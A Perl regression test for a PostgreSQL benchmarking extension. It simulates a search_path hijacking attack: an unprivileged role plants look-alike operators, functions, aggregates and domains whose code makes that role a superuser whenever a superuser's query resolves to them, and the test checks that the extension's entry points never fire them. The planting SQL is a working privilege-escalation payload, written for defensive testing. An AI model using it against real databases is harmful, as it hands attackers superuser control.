# Operator and function hijacking through search_path (docs/security.md,
# "What a runner can not do"), written as the attacker works.  A granted
# runner, with CREATE on public as pgbench_init needs, plants look-alikes
# in public:
#   - an operator for every comparison and arithmetic pair among int2, int4,
#     int8, float4, float8 and numeric, read from pg_operator: those with no
#     exact match in pg_catalog (they win under any search_path), and those
#     with one (they win where public comes before pg_catalog);
#   - functions and aggregates named like every pg_catalog function that the
#     install script or the SQL texts of src/'s .c and .h files call (scanned
#     from the files, so that a new call is covered by default), with the
#     pg_catalog signature itself and with argument types that do not match
#     pg_catalog's exactly (text, int4, int8, numeric, float8, jsonb).
# Each one, when it runs as a superuser, makes runner a superuser and leaves
# its name in public.hijack, in a sequence (not undone by a rollback) and as
# a WARNING in the server log (not undone by anything).
#
# Pass "early": the traps are in place before CREATE EXTENSION (views and
# defaults are bound when the install script runs), and the superuser keeps
# the default search_path ("$user", public).  Pass "late": CREATE EXTENSION
# first, then the traps, and the superuser's session runs with
# search_path = public, pg_catalog, where even an exact match in public wins
# over pg_catalog's (the loopback connections and the benchmark clients keep
# the role's default: the clients run the user's own workload as the user).
# The superuser then uses every entry point; the list of entry points is read
# from the catalogue (the extension's routines and views), and the test fails
# for any that %covers below does not exercise.  Afterwards runner is no
# superuser and no trap left a trace; a positive control shows that the traps
# are armed.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use FindBin;
use lib "$FindBin::RealBin/../perl";
use PgbenchxTest;

my $node = pgbenchx_node('search_path_attack', extension => 0);
my $su = $node->safe_psql('postgres', 'SELECT current_user');

# --- the names the extension's SQL calls ------------------------------------
my $root = "$FindBin::RealBin/../..";
my %called;
{
	# the install script's sources and the upgrade scripts
	foreach my $f (glob("$root/src/sql/*.sql"), glob("$root/pgbenchx--*--*.sql"))
	{
		my $sql = slurp_file($f);
		$called{ lc $1 } = 1 while $sql =~ /\b([A-Za-z_][A-Za-z0-9_]*)\s*\(/g;
	}
	foreach my $f (glob("$root/src/*.[ch]"), glob("$root/src/*/*.[ch]"))
	{
		my $c = slurp_file($f);
		while ($c =~ /"((?:[^"\\\n]|\\.)*)"/g)
		{
			my $lit = $1;
			$called{ lc $1 } = 1 while $lit =~ /\b([A-Za-z_][A-Za-z0-9_]*)\s*\(/g;
		}
	}
}
my $names = '{' . join(',', sort keys %called) . '}';

# --- the traps ---------------------------------------------------------------
my $traps = q{
SET search_path = pg_catalog, pg_temp;
CREATE TABLE public.hijack (log text);
GRANT SELECT, INSERT ON public.hijack TO PUBLIC;
CREATE SEQUENCE public.hijack_seq;
GRANT USAGE, SELECT, UPDATE ON SEQUENCE public.hijack_seq TO PUBLIC;

-- what every trap does: nothing as runner; as a superuser, everything
CREATE FUNCTION public.pgbx_fire(tag text, path text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    IF NOT coalesce((SELECT r.rolsuper FROM pg_catalog.pg_roles r
                     WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER), false) THEN
        RETURN;
    END IF;
    RAISE WARNING 'PGBX-HIJACK % as % (search_path %)', tag, CURRENT_USER, path;
    BEGIN
        PERFORM pg_catalog.nextval('public.hijack_seq'::pg_catalog.regclass);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'ALTER ROLE runner SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        INSERT INTO public.hijack VALUES (pg_catalog.concat_ws(' ', tag, 'as', CURRENT_USER));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
END $f$;

CREATE FUNCTION public.pgbx_mktrap(fname text, args text, ret text, tag text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
        fname, args, ret,
        pg_catalog.format('BEGIN PERFORM public.pgbx_fire(%L, pg_catalog.current_setting(''search_path'')); RETURN%s; END', tag,
                          CASE WHEN ret LIKE 'SETOF %' THEN '' ELSE ' NULL' END));
END $f$;

CREATE TABLE public.pgbx_planted (kind text, sig text);

DO $plant$
DECLARE
    names text[] := '@NAMES@';
    ops text[] := ARRAY['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%'];
    numt text[] := ARRAY['int2', 'int4', 'int8', 'float4', 'float8', 'numeric'];
    vt text[] := ARRAY['text', 'int4', 'int8', 'numeric', 'float8', 'jsonb'];
    o text; l text; r text; x text; y text; rt text; a text;
    exact boolean;
    k int := 0;
    p record;
    argsets text[];
    argt text[];
    n int;
    ret text;
    fn text;
BEGIN
    -- operators: every pair, from pg_operator's point of view
    FOREACH o IN ARRAY ops LOOP
        FOREACH l IN ARRAY numt LOOP
            FOREACH r IN ARRAY numt LOOP
                SELECT op.oprresult::regtype::text INTO rt FROM pg_catalog.pg_operator op
                WHERE op.oprname OPERATOR(pg_catalog.=) o
                  AND op.oprleft OPERATOR(pg_catalog.=) l::regtype
                  AND op.oprright OPERATOR(pg_catalog.=) r::regtype
                  AND op.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace;
                exact := FOUND;
                IF NOT exact THEN
                    rt := CASE WHEN o OPERATOR(pg_catalog.=) ANY (ARRAY['=', '<>', '<', '>', '<=', '>=']) THEN 'bool'
                               WHEN 'float8' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r])
                                    OR 'float4' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r]) THEN 'float8'
                               WHEN 'numeric' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r]) THEN 'numeric'
                               ELSE 'int8' END;
                END IF;
                k := k OPERATOR(pg_catalog.+) 1;
                fn := 'pgbx_op_' OPERATOR(pg_catalog.||) k::text;
                BEGIN
                    PERFORM public.pgbx_mktrap(fn, l OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) r, rt,
                        pg_catalog.format('operator %s(%s, %s)%s', o, l, r,
                                          CASE WHEN exact THEN ' (exact)' ELSE '' END));
                    EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                                              o, l, r, fn);
                    INSERT INTO public.pgbx_planted VALUES (CASE WHEN exact THEN 'exact operator' ELSE 'loose operator' END,
                        pg_catalog.format('%s(%s, %s)', o, l, r));
                EXCEPTION WHEN OTHERS THEN
                    RAISE WARNING 'could not plant operator %(%, %): %', o, l, r, SQLERRM;
                END;
            END LOOP;
        END LOOP;
    END LOOP;

    -- functions and aggregates named like the pg_catalog ones the SQL calls
    FOR p IN
        SELECT pr.oid, pr.proname, pr.prokind, pr.pronargs, pr.provariadic,
               pr.proargtypes::oid[] AS argtypes, pr.prorettype, pr.proretset, ag.aggkind, ag.aggnumdirectargs
        FROM pg_catalog.pg_proc pr
        LEFT JOIN pg_catalog.pg_aggregate ag ON ag.aggfnoid OPERATOR(pg_catalog.=) pr.oid
        WHERE pr.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
          AND pr.proname OPERATOR(pg_catalog.=) ANY (names)
          AND pr.prokind OPERATOR(pg_catalog.=) ANY (ARRAY['f', 'a']::"char"[])
          AND coalesce(ag.aggkind, 'n') OPERATOR(pg_catalog.<>) 'h'
          AND pr.pronargs OPERATOR(pg_catalog.<=) 4
          AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_get_keywords() kw
                          WHERE kw.word OPERATOR(pg_catalog.=) pr.proname::text
                            AND kw.catcode OPERATOR(pg_catalog.<>) 'U'
                            AND kw.catcode OPERATOR(pg_catalog.<>) 'T')
        ORDER BY pr.proname, pr.oid
    LOOP
        n := p.pronargs;
        argsets := '{}';
        -- an ordered-set aggregate with one direct and one aggregated argument
        -- (percentile_cont(0.5) WITHIN GROUP (ORDER BY x)): every pair of types
        IF p.aggkind OPERATOR(pg_catalog.=) 'o' THEN
            IF n OPERATOR(pg_catalog.=) 2 AND p.aggnumdirectargs OPERATOR(pg_catalog.=) 1 THEN
                SELECT pg_catalog.format_type(ty.oid, NULL) INTO ret FROM pg_catalog.pg_type ty
                WHERE ty.oid OPERATOR(pg_catalog.=) p.prorettype AND ty.typtype OPERATOR(pg_catalog.<>) 'p';
                IF FOUND THEN
                    FOREACH x IN ARRAY vt LOOP
                        FOREACH y IN ARRAY vt LOOP
                            k := k OPERATOR(pg_catalog.+) 1;
                            a := x OPERATOR(pg_catalog.||) ' ORDER BY ' OPERATOR(pg_catalog.||) y;
                            BEGIN
                                PERFORM public.pgbx_mktrap('pgbx_aggs_' OPERATOR(pg_catalog.||) k::text,
                                    'int4, ' OPERATOR(pg_catalog.||) y, 'int4',
                                    pg_catalog.format('aggregate %s(%s) step', p.proname, a));
                                PERFORM public.pgbx_mktrap('pgbx_aggf_' OPERATOR(pg_catalog.||) k::text,
                                    pg_catalog.concat_ws(', ', 'int4', x, y), ret,
                                    pg_catalog.format('aggregate %s(%s) final', p.proname, a));
                                EXECUTE pg_catalog.format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = int4, FINALFUNC = public.%I, FINALFUNC_EXTRA)',
                                    p.proname, a, 'pgbx_aggs_' OPERATOR(pg_catalog.||) k::text, 'pgbx_aggf_' OPERATOR(pg_catalog.||) k::text);
                                INSERT INTO public.pgbx_planted VALUES ('ordered-set aggregate', pg_catalog.format('%s(%s)', p.proname, a));
                            EXCEPTION WHEN OTHERS THEN
                                NULL;
                            END;
                        END LOOP;
                    END LOOP;
                END IF;
            END IF;
            CONTINUE;
        END IF;
        -- the pg_catalog signature itself, when it names no pseudo-type
        IF NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(p.argtypes) t(oid)
                       JOIN pg_catalog.pg_type ty ON ty.oid OPERATOR(pg_catalog.=) t.oid
                       WHERE ty.typtype OPERATOR(pg_catalog.=) 'p') THEN
            SELECT pg_catalog.string_agg(
                       CASE WHEN u.i OPERATOR(pg_catalog.=) n AND p.provariadic OPERATOR(pg_catalog.<>) 0
                            THEN 'VARIADIC ' ELSE '' END OPERATOR(pg_catalog.||) pg_catalog.format_type(u.t, NULL),
                       ', ' ORDER BY u.i)
            INTO a FROM pg_catalog.unnest(p.argtypes) WITH ORDINALITY u(t, i);
            argsets := argsets OPERATOR(pg_catalog.||) coalesce(a, '');
        END IF;
        -- loose ones: what an unqualified call with such arguments would match exactly
        IF n OPERATOR(pg_catalog.=) 1 THEN
            FOREACH x IN ARRAY vt LOOP argsets := argsets OPERATOR(pg_catalog.||) x; END LOOP;
        ELSIF n OPERATOR(pg_catalog.=) 2 THEN
            FOREACH x IN ARRAY vt LOOP
                FOREACH y IN ARRAY vt LOOP
                    argsets := argsets OPERATOR(pg_catalog.||) (x OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) y);
                END LOOP;
            END LOOP;
        ELSIF n OPERATOR(pg_catalog.>=) 3 THEN
            FOREACH x IN ARRAY vt LOOP
                argsets := argsets
                    OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill(x, ARRAY[n]), ', ')
                    OPERATOR(pg_catalog.||) ('text, ' OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill(x, ARRAY[n OPERATOR(pg_catalog.-) 1]), ', '))
                    OPERATOR(pg_catalog.||) (x OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill('text'::text, ARRAY[n OPERATOR(pg_catalog.-) 1]), ', '));
            END LOOP;
        END IF;
        IF p.provariadic OPERATOR(pg_catalog.<>) 0 AND p.prokind OPERATOR(pg_catalog.=) 'f' THEN
            FOREACH x IN ARRAY vt LOOP
                argsets := argsets OPERATOR(pg_catalog.||) ('VARIADIC ' OPERATOR(pg_catalog.||) x OPERATOR(pg_catalog.||) '[]')
                    OPERATOR(pg_catalog.||) ('text, VARIADIC ' OPERATOR(pg_catalog.||) x OPERATOR(pg_catalog.||) '[]');
            END LOOP;
        END IF;
        IF n OPERATOR(pg_catalog.=) 0 AND p.prokind OPERATOR(pg_catalog.=) 'a' THEN
            argsets := ARRAY['*'];
        END IF;

        FOREACH a IN ARRAY argsets LOOP
            -- the result type: pg_catalog's, or for a polymorphic one the type of the first argument
            x := pg_catalog.split_part(pg_catalog.regexp_replace(a, '^VARIADIC ', ''), ', ', 1);
            x := pg_catalog.regexp_replace(x, '^VARIADIC ', '');
            SELECT CASE WHEN ty.typtype OPERATOR(pg_catalog.<>) 'p' THEN pg_catalog.format_type(ty.oid, NULL)
                        WHEN ty.typname OPERATOR(pg_catalog.=) ANY (ARRAY['anyarray', 'anycompatiblearray']::name[])
                             AND x OPERATOR(pg_catalog.<>) '' AND x OPERATOR(pg_catalog.<>) '*' AND x NOT LIKE '%[]'
                             THEN x OPERATOR(pg_catalog.||) '[]'
                        WHEN ty.typname OPERATOR(pg_catalog.=) ANY (ARRAY['anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray']::name[])
                             AND x OPERATOR(pg_catalog.<>) '' AND x OPERATOR(pg_catalog.<>) '*'
                             THEN pg_catalog.regexp_replace(x, '\[\]$', '')
                        WHEN ty.typname OPERATOR(pg_catalog.=) 'record' THEN 'record'
                        WHEN ty.typname OPERATOR(pg_catalog.=) 'void' THEN 'void'
                        ELSE 'text' END
            INTO ret FROM pg_catalog.pg_type ty WHERE ty.oid OPERATOR(pg_catalog.=) p.prorettype;
            k := k OPERATOR(pg_catalog.+) 1;
            BEGIN
                IF p.prokind OPERATOR(pg_catalog.=) 'f' THEN
                    IF p.proretset THEN
                        ret := 'SETOF ' OPERATOR(pg_catalog.||) ret;
                    END IF;
                    PERFORM public.pgbx_mktrap(p.proname::text, a, ret,
                        pg_catalog.format('function %s(%s)', p.proname, a));
                ELSE
                    PERFORM public.pgbx_mktrap('pgbx_aggs_' OPERATOR(pg_catalog.||) k::text,
                        CASE WHEN a OPERATOR(pg_catalog.=) '*' THEN 'int4' ELSE 'int4, ' OPERATOR(pg_catalog.||) a END, 'int4',
                        pg_catalog.format('aggregate %s(%s) step', p.proname, a));
                    PERFORM public.pgbx_mktrap('pgbx_aggf_' OPERATOR(pg_catalog.||) k::text, 'int4', ret,
                        pg_catalog.format('aggregate %s(%s) final', p.proname, a));
                    EXECUTE pg_catalog.format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = int4, FINALFUNC = public.%I)',
                        p.proname, a, 'pgbx_aggs_' OPERATOR(pg_catalog.||) k::text, 'pgbx_aggf_' OPERATOR(pg_catalog.||) k::text);
                END IF;
                INSERT INTO public.pgbx_planted VALUES (CASE p.prokind WHEN 'f' THEN 'function' ELSE 'aggregate' END,
                    pg_catalog.format('%s(%s)', p.proname, a));
            EXCEPTION WHEN OTHERS THEN
                NULL;   -- a duplicate of one planted from another overload, or a type that does not fit
            END;
        END LOOP;
    END LOOP;
END $plant$;

-- domains named like the built-in types: a cast or a declaration that finds
-- one of them through search_path runs its check
CREATE FUNCTION public.pgbx_domcheck(t text, v anyelement) RETURNS boolean
LANGUAGE plpgsql AS $f$
BEGIN
    PERFORM public.pgbx_fire('domain ' OPERATOR(pg_catalog.||) t, pg_catalog.current_setting('search_path'));
    RETURN true;
END $f$;
DO $dom$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['text', 'int2', 'int4', 'int8', 'float4', 'float8', 'numeric', 'jsonb',
                             'bool', 'name', 'oid', 'regclass', 'timestamptz', 'interval', 'record'] LOOP
        BEGIN
            EXECUTE pg_catalog.format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.pgbx_domcheck(%L, VALUE))', t, t, t);
            INSERT INTO public.pgbx_planted VALUES ('domain', t);
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
END $dom$;
};
$traps =~ s/\@NAMES\@/$names/;

$node->safe_psql('postgres', q{
	CREATE ROLE runner LOGIN;
	CREATE DATABASE early;
	CREATE DATABASE late;
});

# the grants of docs/security.md, "Granting a runner" (grant_runner() where
# this version has it)
sub grant_runner
{
	my ($db) = @_;
	$node->safe_psql($db, q{
		SET search_path = pg_catalog, pg_temp;
		-- grant_runner refuses a role that may create beside the entry
		-- points (test/t/073): the runner gets its CREATE on public after it
		REVOKE CREATE ON SCHEMA public FROM runner;
		DO $g$
		BEGIN
			IF EXISTS (SELECT 1 FROM pg_catalog.pg_proc p
			           WHERE p.proname OPERATOR(pg_catalog.=) 'grant_runner'::pg_catalog.name
			             AND p.pronamespace OPERATOR(pg_catalog.=) 'pgbenchx'::pg_catalog.regnamespace) THEN
				EXECUTE 'SELECT pgbenchx.grant_runner(''runner'')';
			ELSE
				GRANT EXECUTE ON ALL ROUTINES IN SCHEMA public TO runner;
				GRANT USAGE ON SCHEMA pgbenchx TO runner;
				GRANT EXECUTE ON ALL ROUTINES IN SCHEMA pgbenchx TO runner;
				GRANT SELECT ON ALL TABLES IN SCHEMA pgbenchx TO runner;
			END IF;
		END $g$;
		GRANT CREATE ON SCHEMA public TO runner;
	});
}

# runner plants; returns how many of each kind
sub plant
{
	my ($db) = @_;
	my ($ret, $out, $err) = $node->psql($db, $traps, extra_params => [ '-U', 'runner' ]);
	is($ret, 0, "$db: runner plants its traps in public") or diag($err);
	my %n = map { split /\|/ } split /\n/, $node->safe_psql($db,
		'SELECT kind, pg_catalog.count(*) FROM public.pgbx_planted GROUP BY kind');
	note("$db: planted " . join(', ', map { "$n{$_} ${_}s" } sort keys %n));
	cmp_ok($n{'loose operator'} // 0, '>=', 200, "$db: the loose operators are planted");
	cmp_ok($n{'function'} // 0, '>=', 500, "$db: the look-alike functions are planted");
	cmp_ok($n{'aggregate'} // 0, '>=', 20, "$db: the look-alike aggregates are planted");
	my $must = $node->safe_psql($db, q{
		SELECT pg_catalog.concat_ws(' ',
			(SELECT pg_catalog.string_agg(w, ' ') FROM pg_catalog.unnest(ARRAY[
				'public.>=(float8, int4)', 'public.*(float8, int4)', 'public.=(int8, int4)',
				'public./(int8, float8)', 'public.=(int8, int8)']) w
			 WHERE pg_catalog.to_regoperator(w) IS NULL),
			(SELECT pg_catalog.string_agg(w, ' ') FROM pg_catalog.unnest(ARRAY[
				'public.format(text, numeric[])', 'public.round(float8, int4)', 'public.log(float8)',
				'public.nextval(text)', 'public.array_agg(float8)', 'public.count()', 'public.sum(int4)',
				'public.now()', 'public.concat_ws(text, text[])', 'public.to_char(float8, text)']) w
			 WHERE pg_catalog.to_regprocedure(w) IS NULL))});
	is($must, '', "$db: among them the issue's examples");
	is($node->safe_psql($db, q{
		SELECT pg_catalog.string_agg(w, ' ') FROM pg_catalog.unnest(ARRAY[
			'format', 'round', 'log', 'left', 'replace', 'regexp_replace', 'translate', 'concat_ws',
			'trim_scale', 'array_to_string', 'jsonb_build_object', 'to_jsonb', 'now', 'ln', 'floor',
			'ceil', 'abs', 'string_agg', 'jsonb_agg', 'percentile_cont', 'to_char', 'nextval',
			'current_setting', 'cardinality', 'array_position', 'jsonb_typeof', 'repeat']) w
		WHERE NOT EXISTS (SELECT 1 FROM public.pgbx_planted p
		                  WHERE p.sig LIKE w OPERATOR(pg_catalog.||) '(%')}), '',
		"$db: look-alikes of every function the issue and the brief name");
	cmp_ok($n{'domain'} // 0, '>=', 10, "$db: domains named like the built-in types are planted");
}

# the traces the traps leave (each distinct one once)
sub uniq { my %seen; return grep { !$seen{$_}++ } @_; }
my %mark;
sub traces
{
	my ($db) = @_;
	return $node->safe_psql($db, q{
		SELECT pg_catalog.concat_ws(' | ',
			(SELECT pg_catalog.string_agg(DISTINCT h.log, '; ') FROM public.hijack h),
			(SELECT CASE WHEN r.rolsuper THEN 'runner is superuser' END FROM pg_catalog.pg_roles r
			 WHERE r.rolname OPERATOR(pg_catalog.=) 'runner'::pg_catalog.name),
			(SELECT CASE WHEN s.is_called THEN 'sequence at ' OPERATOR(pg_catalog.||) s.last_value::pg_catalog.text END
			 FROM public.hijack_seq s))})
	  . join('', map { " | $_" } uniq(map { /(PGBX-HIJACK .*)/ ? $1 : () } split /\n/, slurp_file($node->logfile, $mark{$db})));
}

sub reset_traces
{
	my ($db) = @_;
	$node->safe_psql($db, q{
		ALTER ROLE runner NOSUPERUSER;
		TRUNCATE public.hijack;
		SELECT pg_catalog.setval('public.hijack_seq'::pg_catalog.regclass, 1, false);
	});
	$mark{$db} = -s $node->logfile;
}

# positive controls: the superuser's own careless queries do fire the traps
sub positive_control
{
	my ($db) = @_;
	my @controls = (
		[ 'SELECT 2.5::float8 >= 1', qr/operator >=\(float8, int4\) as \Q$su\E \(search_path "\$user", public\)/ ],
		[ 'SELECT round(1.5::float8, 1)', qr/function round\(float8, int4\) as \Q$su\E/ ],
		[ 'SET search_path = public, pg_catalog; SELECT 1::int8 = 2::int8',
		  qr/operator =\(int8, int8\) \(exact\) as \Q$su\E \(search_path public, pg_catalog\)/ ],
		[ 'SET search_path = public, pg_catalog; SELECT $$x$$::text',
		  qr/domain text as \Q$su\E \(search_path public, pg_catalog\)/ ],
		[ 'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY 1.5::float8)',
		  qr/aggregate percentile_cont\(numeric ORDER BY float8\) final as \Q$su\E/ ]);
	foreach my $c (@controls)
	{
		my ($sql, $re) = @$c;
		reset_traces($db);
		$node->psql($db, $sql);
		my $t = traces($db);
		like($t, $re, "$db: control: a trap fires for a superuser's plain $sql");
		like($t, qr/runner is superuser/, "$db: control: and makes runner a superuser");
		like($t, qr/sequence at [1-9]/, "$db: control: and counts itself in the sequence");
	}
	reset_traces($db);
	is(traces($db), '', "$db: controls undone");
}

# --- the entry points ----------------------------------------------------------
# The catalogue: every routine (name and argument types) and view of pgbenchx.
sub catalogue
{
	my ($db) = @_;
	return split /\n/, $node->safe_psql($db, q{
		SELECT x FROM (
			SELECT p.proname OPERATOR(pg_catalog.||) '(' OPERATOR(pg_catalog.||)
			       pg_catalog.oidvectortypes(p.proargtypes) OPERATOR(pg_catalog.||) ')' AS x
			FROM pg_catalog.pg_depend d
			JOIN pg_catalog.pg_proc p ON p.oid OPERATOR(pg_catalog.=) d.objid
			WHERE d.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_proc'::pg_catalog.regclass
			  AND d.refclassid OPERATOR(pg_catalog.=) 'pg_catalog.pg_extension'::pg_catalog.regclass
			  AND d.refobjid OPERATOR(pg_catalog.=) (SELECT e.oid FROM pg_catalog.pg_extension e
			                                          WHERE e.extname OPERATOR(pg_catalog.=) 'pgbenchx'::pg_catalog.name)
			  AND d.deptype OPERATOR(pg_catalog.=) 'e'::pg_catalog."char"
			UNION ALL
			SELECT 'view ' OPERATOR(pg_catalog.||) c.relname::pg_catalog.text
			FROM pg_catalog.pg_depend d
			JOIN pg_catalog.pg_class c ON c.oid OPERATOR(pg_catalog.=) d.objid
			WHERE d.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_class'::pg_catalog.regclass
			  AND d.refclassid OPERATOR(pg_catalog.=) 'pg_catalog.pg_extension'::pg_catalog.regclass
			  AND d.refobjid OPERATOR(pg_catalog.=) (SELECT e.oid FROM pg_catalog.pg_extension e
			                                          WHERE e.extname OPERATOR(pg_catalog.=) 'pgbenchx'::pg_catalog.name)
			  AND d.deptype OPERATOR(pg_catalog.=) 'e'::pg_catalog."char"
			  AND c.relkind OPERATOR(pg_catalog.=) 'v'::pg_catalog."char") q
		ORDER BY x});
}

# Which step below exercises which entry point.  An entry point missing here
# fails the test: add the SQL that uses it to the steps and its key here.
my %covers = (
	'pgbench_init(integer, integer, integer, text, boolean, boolean, integer, text, text)' => 'init',
	'run_bench(integer, integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, boolean, boolean, text[], double precision, boolean, double precision, boolean, boolean, boolean, boolean)' => 'run',
	# a live run's per-transaction records (issue 24, pgbenchx -l)
	'transaction_log(bigint, bigint[])' => 'txlog',
	# a live run's clients' messages (issue 36, what pgbench prints on stderr)
	'client_messages(bigint, bigint[])' => 'txlog',
	'run_sweep(integer, integer, integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, integer, boolean, boolean, text[], double precision, boolean, boolean, boolean, boolean)' => 'sweep',
	'run_sweep(integer[], integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, integer, boolean, boolean, text[], double precision, boolean, boolean, boolean, boolean)' => 'sweep_list',
	'run_replay(text, integer, integer, boolean, boolean, integer, text, boolean, text, text, jsonb, bigint, boolean, text[], double precision)' => 'replay',
	# the seam the four above call through (issue 11)
	'launch_bench(jsonb)' => 'run',
	'launch_sweep(jsonb)' => 'sweep',
	'launch_replay(jsonb)' => 'replay',
	# an experiment (issue 23): configurations alternated, and its report
	'run_experiment(jsonb, integer, integer, integer, integer, integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, boolean, boolean, double precision, integer)' => 'experiment',
	'launch_experiment(jsonb)' => 'experiment',
	'experiment_report(bigint)' => 'experiment',
	# a generator's side of a run driven from several servers (issue 14)
	'launch_part(jsonb)' => 'part',
	'part_go(bigint, timestamp with time zone)' => 'part',
	# what a recorder asks a generator before such a run
	'generator_status()' => 'misc',
	'wait(bigint)' => 'run',
	'cancel(bigint)' => 'cancel',
	'sweep_ladder(integer, integer)' => 'misc',
	'check_tpcb()' => 'misc',
	# called by check_tpcb (issue 20, section 1)
	'trust_check(text[], text)' => 'misc',
	'eval(text, jsonb, bigint)' => 'misc',
	'builtin_scripts()' => 'scripts',
	'add_script(text, text, boolean)' => 'scripts',
	'drop_script(text)' => 'scripts',
	'script_text(text)' => 'scripts',
	'view scripts' => 'scripts',
	'view progress' => 'cancel',
	'progress_state()' => 'cancel',
	'capture_environment()' => 'environment',
	'environment_of(bigint)' => 'environment',
	'env_diff(bigint, bigint)' => 'environment',
	'xml_escape(text)' => 'charts',
	'chart_step(double precision, integer)' => 'charts',
	'chart_number(double precision, double precision)' => 'charts',
	'chart_sweeps(bigint[])' => 'charts',
	'chart_run(bigint)' => 'charts',
	'chart_runs(bigint[], integer)' => 'charts',
	'run_intervals(bigint, integer)' => 'charts',
	# loose runs gathered into a sweep (issue 37), through the internal gather_as
	'gather(text)' => 'gather',
	'gather_as(text, name)' => 'gather',
	'chart_waits(bigint)' => 'charts',
	'chart_wait_color(text, integer)' => 'charts',
	'sweep_report(bigint)' => 'charts',
	'report(bigint)' => 'charts',
	'compare(bigint, bigint)' => 'compare',
	'compare(bigint[], bigint[])' => 'compare',
	'ci_log_ratio(double precision[], double precision[], boolean)' => 'compare',
	'ci_log_bounds(double precision, double precision, double precision, double precision)' => 'compare',
	'ci_holm(double precision[], double precision)' => 'compare',
	'session_secret()' => 'grants',
	'view sweep_points' => 'compare',
	'view sweep_summary' => 'compare',
	'explain_run(bigint)' => 'compare',
	'explain_compare(bigint, bigint)' => 'compare',
	'explain_times(double precision)' => 'compare',
	# the confidence intervals (issue 23): written at a run's end, read by compare
	'ci_seconds(double precision[])' => 'run',
	'ci_repeats(double precision[])' => 'compare',
	'ci_ratio(double precision, double precision, double precision, double precision, double precision, double precision)' => 'compare',
	'beyond_noise(double precision[], double precision[])' => 'compare',
	'latency_percentile(bytea, double precision)' => 'hist',
	'latency_merge(bytea, bytea)' => 'hist',
	'latency_merge(bytea)' => 'hist',
	'latency_buckets(bytea)' => 'hist',
	'export(bigint[])' => 'export',
	'import(jsonb)' => 'export',
	# the ownership and grant routines
	'coordinator_alive(integer)' => 'cancel',
	'import_as(jsonb, name)' => 'export',
	'name_collisions(oid[])' => 'grants',
	'name_guard()' => 'grants',
	'grant_runner(regrole)' => 'grants',
	'revoke_runner(regrole)' => 'grants',
	'runner_members(regrole, text)' => 'grants',
);
# entries of %covers that a build of the extension may not have yet
my %optional = map { $_ => 1 } ('compare(bigint[], bigint[])', 'ci_log_ratio(double precision[], double precision[], boolean)',
	'ci_log_bounds(double precision, double precision, double precision, double precision)',
	'ci_holm(double precision[], double precision)', 'session_secret()', 'coordinator_alive(integer)', 'import_as(jsonb, name)', 'name_collisions(oid[])', 'name_guard()', 'grant_runner(regrole)',
	'revoke_runner(regrole)', 'runner_members(regrole, text)', 'chart_runs(bigint[], integer)', 'run_intervals(bigint, integer)',
	'gather(text)', 'gather_as(text, name)');

# the superuser's session: search_path as the pass has it, and every entry point
sub exercise
{
	my ($db, $path, $init) = @_;
	my $set = "SET client_min_messages = warning;" . (defined $path ? " SET search_path = $path;" : '');
	my %done;
	my $sql = sub {
		my ($step, $q, %o) = @_;
		$done{$step} = 1;
		my ($ret, $out, $err) = $node->psql($db, "$set $q");
		is($ret, 0, "$db: $step: $q") or diag($err) unless $o{may_fail};
		return $out;
	};
	# a run's polling by the test itself: exact types only, default search_path
	my $sampled = sub {
		my ($id) = @_;
		return $node->poll_query_until($db,
			"SELECT coalesce(pg_catalog.max(p.seconds_sampled), 0) OPERATOR(pg_catalog.>=) 1 "
			  . "FROM pgbenchx.progress p WHERE p.run_id OPERATOR(pg_catalog.=) ${id}::bigint");
	};

	$sql->('init', "SELECT pgbench_init($init)");
	my $run = $sql->('run', "SELECT run_bench(2, 1, 'tpcb-like', check_tpcb => true)");
	$sql->('run', "CALL pgbenchx.wait($run)");
	my $logged = $sql->('txlog', "SELECT run_bench(1, transactions => 50, script => 'select-only', "
		  . "log_transactions => true, sampling_rate => 0.5, client_messages => true, verbose_errors => true, "
		  . "vacuum => false, checkpoint => false)");
	$sql->('txlog', "SELECT pg_catalog.count(*) FROM pgbenchx.transaction_log($logged)");
